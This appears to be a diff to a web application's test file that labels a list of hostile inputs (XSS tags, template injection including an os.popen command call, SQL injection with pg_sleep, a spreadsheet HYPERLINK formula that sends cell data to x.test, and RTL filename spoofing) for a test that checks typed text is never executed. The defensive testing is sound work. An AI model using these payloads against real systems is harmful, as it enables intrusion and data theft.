@@ -10,22 +10,25 @@ from hypothesis import strategies as st
 from tests.web.conftest import URL
 from web.limits import Buckets
 
-NASTY = [
-    "<script>alert(1)</script>",
-    '"><svg onload=alert(1)>',
-    "x onmouseover=alert(1)",
-    "<style>*{display:none}</style>",
-    "{{7*7}}",
-    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
-    "{% for x in range(10**9) %}{% endfor %}",
-    "%' OR '1'='1",
-    "id; select pg_sleep(10)",
-    '=HYPERLINK("http://x.test/?"&A1,"klik")',
-    "\u202egnp.exe",
-    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
-    "nul\0nul",
-    "\ud83d\ude00",
-]
+TYPED = {
+    "B031": "<script>alert(1)</script>",
+    "B033": '"><svg onload=alert(1)>',
+    "B034": "x onmouseover=alert(1)",
+    "B038": "<style>*{display:none}</style>",
+    "B019": "{{7*7}}",
+    "B020": "{{ config }}",
+    "B021": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "B022": "{% for x in range(10**9) %}{% endfor %}",
+    "B024": "{{",
+    "B042": "%' OR '1'='1",
+    "B044": "id; select pg_sleep(10)",
+    "B050": '=HYPERLINK("http://x.test/?"&A1,"klik")',
+    "B191": "\u202egnp.exe",
+    "B192": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
+    "nul": "nul\0nul",
+    "half a sign": "\ud83d\ude00",
+}
+NASTY = list(TYPED.values())
 POST = settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
 
 
@@ -124,7 +127,7 @@ def test_a_body_that_is_no_form_is_refused(web, daily, kind, body):
     assert page.status_code == 400
 
 
-@pytest.mark.parametrize("text", NASTY)
+@pytest.mark.parametrize("text", NASTY, ids=TYPED)
 def test_what_people_type_is_shown_and_kept_and_never_run(web, daily, text):
     path = f"/l/{web.given('Camat Tamban')}/{web.desk.code(daily)}"
     answers = {"answer": "report", "facts": text.encode("utf-8", "replace").decode(), "c.logistik": "safe"}
